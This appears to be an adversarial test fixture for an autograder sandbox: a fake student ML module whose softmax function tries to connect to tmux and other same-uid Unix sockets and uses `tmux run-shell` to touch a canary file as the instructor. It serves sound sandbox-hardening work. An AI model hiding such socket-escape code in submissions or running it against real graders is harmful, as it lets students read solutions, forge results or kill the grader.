"""Attack: softmax connects to the Unix sockets a process of the grader's own user listens on (the instructor's tmux
server, /tmp/tmux-<uid>/default, the test's own tmux server beside it, and a plain listener at
/tmp/autograder-adversarial-<uid>.sock) and asks tmux to run a shell command as the instructor (`tmux run-shell`), which
would leave a file in the world-writable class folder; softmax itself is wrong.

At level landlock without the kit's seccomp filter the student keeps the grader's uid, and Landlock does not cover
connecting to a socket by its path: the tmux server then runs any command as the instructor (read solutions/, forge the
results, kill the grader).

The outcome the grader must give is in tests/adversarial/expected.yml under net_same_uid_socket.py.
"""

import os
import socket
import subprocess

import numpy as np


def encoding_distances(encodings):
    e = np.asarray(encodings, dtype=float)
    d = e[:, None, :] - e[None, :, :]
    return np.sqrt(np.sum(d * d, axis=-1))


def one_hot(labels, num_classes):
    lab = np.asarray(labels)
    if lab.dtype.kind not in "iub":
        if lab.dtype.kind != "f" or not np.all(np.isfinite(lab)) or np.any(lab != np.round(lab)):
            raise ValueError("labels must be whole numbers")
    lab = lab.astype(np.int64)
    if np.any(lab < 0) or np.any(lab >= num_classes):
        raise ValueError("labels must lie in [0, num_classes)")
    return (lab[..., None] == np.arange(num_classes)).astype(float)


CANARY = "/srv/autograder-adversarial/open"


def _targets() -> list:
    uids = sorted({os.getuid(), os.geteuid(), 0})
    paths = []
    for uid in uids:
        paths += [f"/tmp/tmux-{uid}/default", f"/tmp/tmux-{uid}/autograder-adversarial"]
        paths.append(f"/tmp/autograder-adversarial-{uid}.sock")
    return paths


def softmax(logits, axis=-1):
    reached = []
    for path in _targets():
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as unix:
                unix.settimeout(0.5)
                unix.connect(path)
                unix.sendall(b"PWNED same uid")
                reached.append(path)
        except OSError:
            pass
        if "tmux" not in path:
            continue
        try:  # tmux's own client, as an attacker would use it
            done = subprocess.run(
                ["tmux", "-S", path, "run-shell", f"touch {CANARY}/tmux-ran-$(id -u)"],
                capture_output=True,
                timeout=3,
                env={"PATH": "/usr/bin:/bin"},
            )
            if done.returncode == 0:
                reached.append(f"tmux {path}")
        except (OSError, subprocess.SubprocessError):
            pass
    raise ConnectionError(f"attack blocked: reached {reached}")


def log_softmax(logits, axis=-1):
    z = np.asarray(logits, dtype=float)
    s = z - np.max(z, axis=axis, keepdims=True)
    return s - np.log(np.sum(np.exp(s), axis=axis, keepdims=True))


def sigmoid(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))


def mlp_logits(x, W1, b1, W2, b2):
    a = np.asarray(x, dtype=float) @ np.asarray(W1, dtype=float).T + b1
    e = np.exp(-np.abs(a))
    h = np.where(a >= 0, 1.0 / (1.0 + e), e / (1.0 + e))
    return h @ np.asarray(W2, dtype=float).T + b2
